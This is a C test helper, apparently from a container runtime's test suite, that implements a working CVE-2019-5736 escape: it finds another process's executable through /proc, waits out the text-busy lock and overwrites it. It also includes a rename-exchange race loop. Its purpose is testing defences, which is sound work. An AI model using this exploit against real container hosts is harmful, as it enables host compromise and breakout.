/* The attacker of tests/cli/oci_escape.sh: linked statically, so that it runs in an empty root.
 *
 *   attack overwrite FIFO       opens /proc/PID/exe of another program, says HELD, lets who is
 * stuck at FIFO go, and tries to write over the file that it ran attack swap A B exchanges the
 * names A and B as fast as it can, until it is ended
 *
 * Its last word on standard output is what came of it: WRITTEN, or the name of the errno. */
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { PATIENCE_MS = 20000 };

static int say(const char *word)
{
	puts(word);
	fflush(stdout);
	return 0;
}

static void a_moment(void)
{
	usleep(1000);
}

static bool has_option(int pid, const char *option)
{
	char path[64], line[256] = "";
	ssize_t n;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
	fd = open(path, O_RDONLY);
	n = fd < 0 ? -1 : read(fd, line, sizeof line - 1);
	close(fd);
	return n > 0 && !strncmp(line + strlen(line) + 1, option, strlen(option));
}

/* A process whose program is not ours and whose first argument begins so: its exe, held open. */
static int open_other_program(const char *option)
{
	struct stat own, its;

	stat("/proc/self/exe", &own);
	for (int ms = 0; ms < PATIENCE_MS; ms++) {
		for (int pid = 1; pid < 100; pid++) {
			char path[64];
			int fd;
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			fd = open(path, O_PATH);
			if (fd < 0)
				continue;
			if (fstat(fd, &its) == 0 && its.st_ino != own.st_ino &&
			        has_option(pid, option))
				return fd;
			close(fd);
		}
		a_moment();
	}
	return -1;
}

/* The way of CVE-2019-5736: a link to the file is kept, and written through when it is no longer
 * busy. */
static int overwrite(const char *fifo, const char *option)
{
	static const char marker[] = "#!/bin/sh\necho overwritten\n";
	int exe = open_other_program(option), error = ETIMEDOUT;
	char path[64];

	if (exe < 0)
		return say("NOBODY");
	say("HELD");
	/* Who waits to write to the pipe is let go by a reader; it then ends. */
	open(fifo, O_RDONLY | O_NONBLOCK);
	snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
	for (int ms = 0; ms < PATIENCE_MS; ms++) {
		int fd = open(path, O_WRONLY);
		if (fd >= 0) {
			error = write(fd, marker, sizeof marker - 1) < 0 ? errno : 0;
			break;
		}
		error = errno;
		if (error != ETXTBSY)
			break;
		a_moment();
	}
	return say(error ? strerrorname_np(error) : "WRITTEN");
}

static int swap(const char *a, const char *b)
{
	for (;;)
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
			return say(strerrorname_np(errno));
}

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";

	if (!strcmp(verb, "overwrite") && argc == 4)
		return overwrite(argv[2], argv[3]);
	if (!strcmp(verb, "swap") && argc == 4)
		return swap(argv[2], argv[3]);
	fprintf(stderr, "attack: overwrite FIFO OPTION | swap A B\n");
	return 2;
}
